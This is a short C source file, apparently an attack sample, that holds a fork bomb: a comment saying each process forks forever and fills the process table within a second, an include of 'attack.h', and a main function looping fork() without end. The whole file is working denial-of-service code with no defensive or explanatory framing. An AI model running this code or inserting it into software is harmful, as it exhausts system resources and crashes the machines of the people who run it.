// Every process forks for ever. Unprotected, the machine's process table fills within a second.
#include "attack.h"
int main(void) {
  for (;;) fork();
}
